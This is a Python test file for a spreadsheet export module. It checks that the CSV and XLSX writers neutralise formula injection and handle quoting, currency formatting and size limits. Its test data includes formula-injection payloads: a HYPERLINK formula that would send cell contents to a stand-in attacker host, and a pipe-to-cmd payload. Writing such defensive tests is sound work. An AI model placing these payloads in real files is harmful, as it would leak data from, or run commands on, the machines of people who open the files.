"""Files for spreadsheets: what people typed is text, whatever it looks like."""

import csv
import io
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from xml.etree import ElementTree

import pytest

from services.analytics.exports.files import ExportFormat, XlsxWriter, harmless, writer_of
from services.analytics.exports.tables import Cell

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"more")',
    "+1",
    "-1+1|cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "＝1+1",
]


def written(format: ExportFormat, head: list[str], *batches: list[list[Cell]]) -> bytes:
    file = io.BytesIO()
    writer = writer_of(format, file, name="report", head=head)
    for rows in batches:
        writer.write(rows)
    writer.close()
    return file.getvalue()


def sheet(content: bytes, number: int = 1) -> list[list[tuple[str, str]]]:
    """The cells of a sheet by row, as their type in the file and what they hold."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
    rows = []
    for row in root.iter(f"{MAIN}row"):
        cells = []
        for cell in row.iter(f"{MAIN}c"):
            assert cell.find(f"{MAIN}f") is None  # a formula
            held = "".join(part.text or "" for part in cell.iter() if part.tag in (f"{MAIN}t", f"{MAIN}v"))
            cells.append((cell.get("t", "n"), held))
        rows.append(cells)
    return rows


class TestHarmless:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_what_would_be_computed_gets_an_apostrophe(self, text: str) -> None:
        assert harmless(text) == "'" + text

    @pytest.mark.parametrize("text", ["", "Linen shirt", "1=1", "a@b.example", "100 % wool - blue", "2026-11-01"])
    def test_other_text_is_left_as_it_is(self, text: str) -> None:
        assert harmless(text) == text


class TestCsv:
    def test_text_is_quoted_numbers_are_not_and_nothing_is_empty(self) -> None:
        at = datetime(2026, 11, 1, 12, 30, tzinfo=UTC)

        content = written(ExportFormat.CSV, ["name", "total (USD)"], [["Tee, red", Decimal("-19.90")], ["1", 2], [at, None]])

        assert content == (b'"name","total (USD)"\r\n"Tee, red",-19.90\r\n"1",2\r\n"2026-11-01T12:30:00+00:00",""\r\n')

    def test_hostile_text_stays_in_its_cell_and_is_no_formula(self) -> None:
        texts = [*HOSTILE, 'a";=1+1;"', "a,=1+1", "x\r\n=1+1"]

        content = written(ExportFormat.CSV, ["name"], [[text] for text in texts])

        rows = list(csv.reader(io.StringIO(content.decode(), newline="")))
        assert rows == [["name"], *(["'" + text] for text in HOSTILE), *([text] for text in texts[len(HOSTILE) :])]

    def test_file_stays_open(self) -> None:
        file = io.BytesIO()
        writer_of(ExportFormat.CSV, file, name="report", head=["ä"]).close()

        assert file.getvalue().decode() == '"ä"\r\n'


class TestXlsx:
    def test_text_is_text_and_numbers_are_numbers(self) -> None:
        at = datetime(2026, 11, 1, 12, 30, tzinfo=UTC)

        content = written(ExportFormat.XLSX, ["name", "total (USD)"], [["Tee", Decimal("19.90")]], [["1", 2], [at, None]])

        assert sheet(content) == [
            [("inlineStr", "name"), ("inlineStr", "total (USD)")],
            [("inlineStr", "Tee"), ("n", "19.9")],
            [("inlineStr", "1"), ("n", "2")],
            [("inlineStr", "2026-11-01T12:30:00+00:00")],
        ]

    def test_money_shows_the_digits_of_its_currency(self) -> None:
        content = written(ExportFormat.XLSX, ["USD", "JPY", "KWD"], [[Decimal("5.00"), Decimal("5"), Decimal("5.000")]])

        with zipfile.ZipFile(io.BytesIO(content)) as book:
            styles = book.read("xl/styles.xml").decode()
        assert 'formatCode="0.000"' in styles
        assert sheet(content)[1] == [("n", "5"), ("n", "5"), ("n", "5")]

    def test_hostile_text_is_no_formula_and_no_link(self) -> None:
        texts = [*HOSTILE, "http://evil.example", "mailto:a@b.example", "internal:Sheet1!A1", "{=1+1}"]

        content = written(ExportFormat.XLSX, ["name"], [[text] for text in texts])

        assert [kind for row in sheet(content) for kind, _ in row] == ["inlineStr"] * (1 + len(texts))
        assert next(held for row in sheet(content)[1:] for _, held in row) == "=1+1"
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            assert not [name for name in book.namelist() if "rels" in name and "sheet" in name]

    def test_text_beyond_what_a_cell_holds_is_cut(self) -> None:
        content = written(ExportFormat.XLSX, ["name"], [["x" * 40_000]])

        assert sheet(content)[1] == [("inlineStr", "x" * 32_767)]

    def test_rows_beyond_what_a_sheet_holds_go_on_to_the_next(self) -> None:
        file = io.BytesIO()
        writer = XlsxWriter(file, "orders", ["n"], sheet_rows=3)
        writer.write([[n] for n in range(4)])
        writer.close()

        head = [("inlineStr", "n")]
        assert sheet(file.getvalue(), 1) == [head, [("n", "0")], [("n", "1")]]
        assert sheet(file.getvalue(), 2) == [head, [("n", "2")], [("n", "3")]]
